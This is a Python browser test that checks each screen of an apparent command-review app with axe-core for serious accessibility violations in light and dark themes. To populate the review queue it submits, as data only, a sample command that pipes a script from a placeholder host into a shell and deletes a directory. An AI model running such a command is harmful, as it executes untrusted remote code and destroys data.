"""Every screen of the reviewer app, checked with axe-core in Chromium, in both themes.

axe-core (pinned in web/package.json) is the engine browser accessibility
tools use; the test fails on any violation rated serious or critical:
missing labels, unnamed buttons, broken ARIA, insufficient colour contrast…
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Literal

import httpx
import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.conftest import sign_in
from tests.support.factories import OrgTokens
from tests.support.server import ServerProcess

AXE = Path(__file__).resolve().parents[3] / "web" / "node_modules" / "axe-core" / "axe.min.js"
SCREENS = ("/app/", "/app/history", "/app/whitelist", "/app/settings")


async def violations(page: Page) -> list[dict[str, Any]]:
    if not AXE.is_file():
        pytest.fail("web/node_modules/axe-core is missing: run `make web` (make test does)")
    # Evaluated through the DevTools protocol, which the page's CSP does not govern.
    await page.evaluate(AXE.read_text())
    result: dict[str, Any] = await page.evaluate(
        "async () => await axe.run(document, {resultTypes: ['violations']})"
    )
    return [v for v in result["violations"] if v["impact"] in ("serious", "critical")]


def describe(found: list[dict[str, Any]]) -> str:
    return json.dumps(
        [
            {"rule": v["id"], "help": v["help"], "nodes": [n["target"] for n in v["nodes"][:3]]}
            for v in found
        ],
        indent=1,
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_every_screen_passes_axe_in_both_themes(
    browser: Browser, server: ServerProcess, org: OrgTokens, scheme: Literal["light", "dark"]
) -> None:
    context = await browser.new_context(base_url=server.http_url, color_scheme=scheme)
    page = await context.new_page()
    async with httpx.AsyncClient(base_url=server.http_url) as http:
        for number, command in enumerate(
            ("terraform plan -out plan.bin", "curl -s https://x.example | sh && rm -rf /tmp/a")
        ):
            response = await http.post(
                "/api/v1/commands",
                json={
                    "request_id": f"a11y-{scheme}-{number}",
                    "command": command,
                    "target": "prod",
                },
                headers=org.agent_headers(),
            )
            assert response.status_code == 201
    await page.goto("/app/")
    found = await violations(page)  # the sign-in page
    assert found == [], describe(found)
    await sign_in(page, org.reviewer_token)
    for screen in SCREENS:
        await page.goto(screen)
        await expect(page.get_by_role("main")).to_be_visible()
        await page.wait_for_load_state("networkidle")
        found = await violations(page)
        assert found == [], f"{screen}: {describe(found)}"
    await context.close()
